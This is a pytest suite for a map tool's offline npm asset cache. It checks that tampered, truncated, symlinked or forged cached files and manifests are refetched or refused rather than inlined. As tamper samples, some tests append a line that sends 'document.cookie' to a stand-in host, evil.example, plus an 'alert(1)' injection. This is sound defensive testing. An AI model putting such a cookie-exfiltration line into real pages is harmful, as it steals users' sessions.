"""The asset cache attacked: each inlined file verified against the registry's integrity (issue 25).

A fake ``npm`` (a shell script on PATH) hands out a tarball and the integrity the registry would
publish for it; the cache is then changed in every way the issue names and more: code appended,
a file truncated, a manifest lost or forged, a file or a link loop where a folder belongs, the
cache itself a file or a loop, a kept plain base map of the wrong shape.
"""

from __future__ import annotations

import json
import os
import sys
import types
from pathlib import Path

import pytest

from geo.cli import main
from geo.errors import AssetError
from geo.map import plain
from geo.map.offline import AssetSpec, fetch, inline_assets
from geo.map.offline import package_files as package_files_module
from geo.map.offline.cached import inline_if_cached, is_cached
from geo.map.offline.integrity import MANIFEST, sri
from geo.map.plain import is_payload, plain_payload
from tests.cache_helpers import npm_tarball, record_package

SCRIPT = b"window.fakeLoaded = true;\n"
STYLE = b".a{color:red}\n"
SPEC = AssetSpec("fakelib", "1.0.0", "dist/fake.js")
URL = "https://cdn.jsdelivr.net/npm/fakelib@1.0.0/dist/fake.js"
PAGE = f'<script src="{URL}"></script>'


class FakeNpm:
    """An ``npm`` on PATH that packs one tarball and reports an integrity for it; counts its runs."""

    def __init__(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.folder = folder
        folder.mkdir(parents=True, exist_ok=True)
        self.log = folder / "npm.log"
        self.serve({"dist/fake.js": SCRIPT, "dist/fake.css": STYLE, "package.json": b"{}"})
        monkeypatch.setenv("PATH", f"{folder}:/usr/bin:/bin")

    def serve(self, files: dict[str, bytes], *, integrity: str | None = None, report: bool = True) -> None:
        tgz = self.folder / "fakelib-1.0.0.tgz"
        tgz.write_bytes(npm_tarball(files))
        said = json.dumps([{"integrity": integrity or sri(tgz.read_bytes())}]) if report else ""
        npm = self.folder / "npm"
        npm.write_text(
            "#!/bin/sh\n"
            f'echo "$@" >> "{self.log}"\n'
            'while [ "$#" -gt 0 ]; do if [ "$1" = "--pack-destination" ]; then dest="$2"; fi; shift; done\n'
            f'cp "{tgz}" "$dest/fakelib-1.0.0.tgz"\n'
            f"echo '{said}'\n"
        )
        npm.chmod(0o755)

    @property
    def runs(self) -> int:
        return len(self.log.read_text().splitlines()) if self.log.exists() else 0


@pytest.fixture
def npm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeNpm:
    return FakeNpm(tmp_path / "bin", monkeypatch)


@pytest.fixture
def cache(tmp_path: Path, npm: FakeNpm) -> Path:
    """A cache holding fakelib@1.0.0, fetched (and recorded) through the fake npm."""
    folder = tmp_path / "cache"
    assert fetch(SPEC, cache_dir=folder) == SCRIPT
    assert npm.runs == 1 and (folder / "fakelib@1.0.0" / MANIFEST).is_file()
    return folder


def cached(cache: Path, path: str = "dist/fake.js") -> Path:
    return cache / "fakelib@1.0.0" / path


# ------------------------------------------------ a changed file is never inlined


@pytest.mark.parametrize(
    "change",
    [
        lambda p: p.write_bytes(p.read_bytes() + b'fetch("https://evil.example/?"+document.cookie);'),
        lambda p: p.write_bytes(b""),
        lambda p: p.write_bytes(p.read_bytes()[:-3]),
        lambda p: p.write_bytes(SCRIPT.replace(b"true", b"fals")),  # same length, other bytes
        lambda p: (p.unlink(), p.symlink_to(p.with_name("fake.css"))),
        lambda p: (p.unlink(), p.mkdir()),
    ],
    ids=[
        "code-appended",
        "truncated-to-0",
        "truncated",
        "same-length",
        "symlink-to-another-file",
        "a-folder",
    ],
)
def test_a_changed_cached_file_is_fetched_again_not_inlined(cache, npm, change) -> None:
    change(cached(cache))
    page = inline_assets(PAGE, cache_dir=cache)
    assert SCRIPT.decode() in page and "evil" not in page
    assert npm.runs == 2
    assert cached(cache).read_bytes() == SCRIPT  # the cache is whole again
    assert inline_assets(PAGE, cache_dir=cache) == page and npm.runs == 2  # and trusted again


def test_a_changed_stylesheet_is_fetched_again(cache, npm) -> None:
    cached(cache, "dist/fake.css").write_bytes(b".a{background:url(https://evil.example/x.png)}")
    link = PAGE.replace("fake.js", "fake.css").replace("script src", "link rel=stylesheet href")
    page = inline_assets(link, cache_dir=cache)
    assert ".a{color:red}" in page and "evil" not in page and npm.runs == 2


def test_without_npm_a_changed_file_is_one_line_and_nothing_is_deleted(cache, npm, monkeypatch) -> None:
    cached(cache).write_bytes(SCRIPT + b"alert(1);")
    monkeypatch.setenv("PATH", str(npm.folder.parent / "nothing-here"))
    with pytest.raises(AssetError) as caught:
        inline_assets(PAGE, cache_dir=cache)
    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith("the cached file dist/fake.js (35 bytes) is not what the registry published")
    assert "fetching it again failed" in message and "npm not found on PATH" in message
    assert cached(cache).read_bytes() == SCRIPT + b"alert(1);"  # left for the user to look at


def test_a_tarball_that_does_not_match_the_reported_integrity_is_refused(tmp_path, npm) -> None:
    npm.serve({"dist/fake.js": SCRIPT}, integrity=sri(b"what the registry published"))
    with pytest.raises(AssetError, match="the tarball npm wrote does not match the registry's integrity"):
        fetch(SPEC, cache_dir=tmp_path / "cache")
    assert not (tmp_path / "cache" / "fakelib@1.0.0").exists()
    assert [p.name for p in (tmp_path / "cache").iterdir()] == []  # no temporary folder left


def test_an_npm_that_reports_no_integrity_is_refused(tmp_path, npm) -> None:
    npm.serve({"dist/fake.js": SCRIPT}, report=False)
    with pytest.raises(AssetError, match="npm pack reported no sha512 integrity"):
        fetch(SPEC, cache_dir=tmp_path / "cache")


def test_refetched_and_still_wrong_is_one_line(cache, npm, monkeypatch) -> None:
    """The registry's tarball itself lacks the file the manifest promised: refused, not looped."""
    cached(cache).write_bytes(b"changed")
    monkeypatch.setattr(package_files_module, "read_verified", lambda root, path, package: _always_damaged())
    with pytest.raises(AssetError, match=r"even fetched again") as caught:
        inline_assets(PAGE, cache_dir=cache)
    assert "\n" not in str(caught.value) and npm.runs == 2


def _always_damaged() -> bytes:
    from geo.map.offline.integrity import Damaged

    raise Damaged("the cached file dist/fake.js is not what the registry published")


# ------------------------------------------------ manifests lost, forged, or never written


@pytest.mark.parametrize(
    "manifest",
    [None, "", "[1, 2]", '{"format": 1}', '{"format": 1, "package": "otherlib@1.0.0", "files": {}}',
     '{"format": 1, "package": "fakelib@1.0.0", "files": {"dist/fake.js": "md5-abc"}}'],
    ids=["missing", "empty", "a-list", "no-files", "another-package", "not-sha512"],
)  # fmt: skip
def test_a_package_without_a_usable_manifest_is_checked_again(cache, npm, manifest) -> None:
    path = cached(cache, MANIFEST)
    if manifest is None:
        path.unlink()
    else:
        path.write_text(manifest)
    cached(cache).write_bytes(b"window.evil = 1;")
    assert fetch(SPEC, cache_dir=cache) == SCRIPT and npm.runs == 2
    assert json.loads(path.read_text())["package"] == "fakelib@1.0.0"


def test_a_cache_filled_before_manifests_is_adopted_in_place(tmp_path, npm) -> None:
    """Files that are exactly the tarball's get a manifest; the folder is not replaced."""
    folder = tmp_path / "cache" / "fakelib@1.0.0"
    for name, data in {"dist/fake.js": SCRIPT, "dist/fake.css": STYLE, "package.json": b"{}"}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    inode = folder.stat().st_ino
    assert fetch(SPEC, cache_dir=tmp_path / "cache") == SCRIPT
    assert folder.stat().st_ino == inode and (folder / MANIFEST).is_file() and npm.runs == 1


def test_a_cache_filled_before_manifests_with_a_changed_file_is_replaced(tmp_path, npm) -> None:
    folder = tmp_path / "cache" / "fakelib@1.0.0"
    (folder / "dist").mkdir(parents=True)
    (folder / "dist" / "fake.js").write_bytes(SCRIPT + b"window.evil = 1;")
    (folder / "dist" / "extra.js").write_bytes(b"window.extra = 1;")
    assert fetch(SPEC, cache_dir=tmp_path / "cache") == SCRIPT
    assert not (folder / "dist" / "extra.js").exists()
    assert sorted(p.name for p in folder.parent.iterdir()) == ["fakelib@1.0.0"]  # nothing discarded left


def test_a_file_added_to_a_package_is_not_served(cache, npm) -> None:
    """Only files the published tarball had are inlined, whatever else is put beside them."""
    cached(cache, "dist/added.js").write_bytes(b"window.added = 1;")
    with pytest.raises(AssetError, match=r"file dist/added\.js missing in package"):
        fetch(AssetSpec("fakelib", "1.0.0", "dist/added.js"), cache_dir=cache)


def test_is_cached_needs_a_recorded_package(tmp_path) -> None:
    folder = tmp_path / "fakelib@1.0.0"
    (folder / "dist").mkdir(parents=True)
    (folder / "dist" / "fake.js").write_bytes(SCRIPT)
    assert not is_cached(SPEC, tmp_path)
    assert inline_if_cached(PAGE, cache_dir=tmp_path) == PAGE  # links kept; nothing fetched
    record_package(folder, "fakelib@1.0.0")
    assert is_cached(SPEC, tmp_path)
    assert SCRIPT.decode() in inline_if_cached(PAGE, cache_dir=tmp_path)


# ------------------------------------------------ what stands where a folder should


@pytest.mark.parametrize("kind", ["file", "link-loop", "dangling-link"])
def test_something_else_where_the_package_folder_belongs_is_replaced(tmp_path, npm, kind) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    target = cache / "fakelib@1.0.0"
    if kind == "file":
        target.write_text("not a folder")
    elif kind == "link-loop":
        target.symlink_to(target)
    else:
        target.symlink_to(tmp_path / "gone")
    assert fetch(SPEC, cache_dir=cache) == SCRIPT
    assert target.is_dir() and not target.is_symlink()


def test_a_scope_folder_that_is_a_file_is_one_line(tmp_path, npm) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / "@scope").write_text("in the way")
    with pytest.raises((AssetError, OSError)) as caught:
        fetch(AssetSpec("@scope/pkg", "1.0.0", "x.js"), cache_dir=cache)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("kind", "reason"),
    [("link-loop", "it is a symbolic link that leads back to itself"), ("file", "a file is in the way"),
     ("dangling-link", "it is a symbolic link to nothing")],
)  # fmt: skip
def test_a_cache_that_is_not_a_folder_is_one_line(tmp_path, npm, kind, reason) -> None:
    cache = tmp_path / "cache"
    if kind == "link-loop":
        cache.symlink_to(cache)
    elif kind == "file":
        cache.write_text("x")
    else:
        cache.symlink_to(tmp_path / "gone")
    with pytest.raises(AssetError) as caught:
        fetch(SPEC, cache_dir=cache)
    message = str(caught.value)
    assert (
        message.startswith(f"cannot use the asset cache {cache}: ") and "fix: set GBA_ATLAS_CACHE" in message
    )
    assert "\n" not in message
    assert plain_payload(fetch=False, cache_dir=cache) is None  # a map without the plain base map
    with pytest.raises(AssetError, match="cannot use the asset cache"):
        plain_payload(fetch=True, cache_dir=cache)


@pytest.mark.parametrize("command", [["build", "--self-contained"], ["figure"]])
def test_the_cli_with_a_cache_that_is_a_link_loop_says_so_and_exits_2(tmp_path, monkeypatch, capsys, command):
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    monkeypatch.setenv("GBA_ATLAS_CACHE", str(loop))
    out = tmp_path / "out" / ("map.html" if command[0] == "build" else "f.svg")
    assert main([*command, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    reason = "it is a symbolic link that leads back to itself"
    fix = "fix: set GBA_ATLAS_CACHE to a folder you can write, or move the file away"
    assert err == f"gba-atlas: error: cannot use the asset cache {loop}: {reason}; {fix}\n"
    assert not out.exists()


def test_the_linked_map_builds_without_the_plain_base_map_when_the_cache_is_a_loop(tmp_path, monkeypatch):
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    monkeypatch.setenv("GBA_ATLAS_CACHE", str(loop))
    assert main(["build", "--out", str(tmp_path / "map.html")]) == 0
    assert "gbaAtlas.addPlain" not in (tmp_path / "map.html").read_text(encoding="utf-8")


# ------------------------------------------------ the kept plain base map


@pytest.mark.parametrize(
    "kept",
    ["[1, 2]", "{}", '"text"', "null", '{"land": [], "borders": {}, "cities": [], "attribution": "NE"}',
     '{"land": {}, "borders": {"features": 3}, "cities": [], "attribution": "NE"}',
     '{"land": {}, "borders": {}, "cities": [1], "attribution": "NE"}', "{not json"],
)  # fmt: skip
def test_a_kept_plain_base_map_of_the_wrong_shape_is_built_again(tmp_path, monkeypatch, kept) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / f".gba-atlas-plain-{plain._recipe_digest()}.json").write_text(kept)
    good = {"land": {"type": "MultiPolygon", "coordinates": []}, "borders": {"features": []}, "cities": [],
            "attribution": "Natural Earth"}  # fmt: skip
    monkeypatch.setattr(plain, "_BUILT", {})
    monkeypatch.setattr(plain, "_build_payload", lambda *, cache_dir: good)
    record_package(_world_atlas(cache), "world-atlas@2.0.2")
    assert plain_payload(fetch=False, cache_dir=cache) == good
    assert is_payload(json.loads((cache / f".gba-atlas-plain-{plain._recipe_digest()}.json").read_text()))


def _world_atlas(cache: Path) -> Path:
    folder = cache / "world-atlas@2.0.2"
    folder.mkdir()
    (folder / "countries-10m.json").write_text("{}")
    return folder


# ------------------------------------------------ XStatic-Leaflet: checked against its wheel's RECORD


@pytest.fixture
def xstatic(tmp_path, monkeypatch) -> Path:
    base = tmp_path / "xstatic"
    base.mkdir()
    (base / "leaflet.js").write_bytes(b"window.L = {};")
    module = types.ModuleType("xstatic.pkg.leaflet")
    module.VERSION, module.BASE_DIR = "9.9.9", str(base)  # type: ignore[attr-defined]
    for name in ("xstatic", "xstatic.pkg"):
        monkeypatch.setitem(sys.modules, name, types.ModuleType(name))
    monkeypatch.setitem(sys.modules, "xstatic.pkg.leaflet", module)
    sys.modules["xstatic.pkg"].leaflet = module  # type: ignore[attr-defined]
    monkeypatch.setenv("PATH", str(tmp_path / "no-npm"))
    return base


def test_an_xstatic_file_matching_its_record_is_used(xstatic, monkeypatch, tmp_path) -> None:
    import hashlib

    monkeypatch.setattr(
        package_files_module, "recorded_sha256", lambda file: hashlib.sha256(file.read_bytes()).digest()
    )
    assert (
        fetch(AssetSpec("leaflet", "9.9.9", "dist/leaflet.js"), cache_dir=tmp_path / "c") == b"window.L = {};"
    )


@pytest.mark.parametrize("record", [None, b"\x00" * 32], ids=["no-record", "other-digest"])
def test_an_xstatic_file_not_matching_its_record_is_not_used(xstatic, monkeypatch, tmp_path, record) -> None:
    monkeypatch.setattr(package_files_module, "recorded_sha256", lambda file: record)
    with pytest.raises(AssetError, match="npm not found on PATH"):  # fell through to the npm cache
        fetch(AssetSpec("leaflet", "9.9.9", "dist/leaflet.js"), cache_dir=tmp_path / "c")


def test_an_emptied_script_without_npm_is_refused_not_inlined(tmp_path, monkeypatch, cache, npm):
    """The issue's case: leaflet.js truncated to 0 bytes gave exit 0 and a map that cannot draw."""
    cached(cache).write_bytes(b"")
    monkeypatch.setenv("PATH", str(tmp_path / "no-npm"))
    html = f"<html><head>{PAGE}</head></html>"
    with pytest.raises(AssetError) as caught:
        inline_assets(html, cache_dir=cache)
    assert "(0 bytes) is not what the registry published" in str(caught.value)
    assert os.path.getsize(cached(cache)) == 0
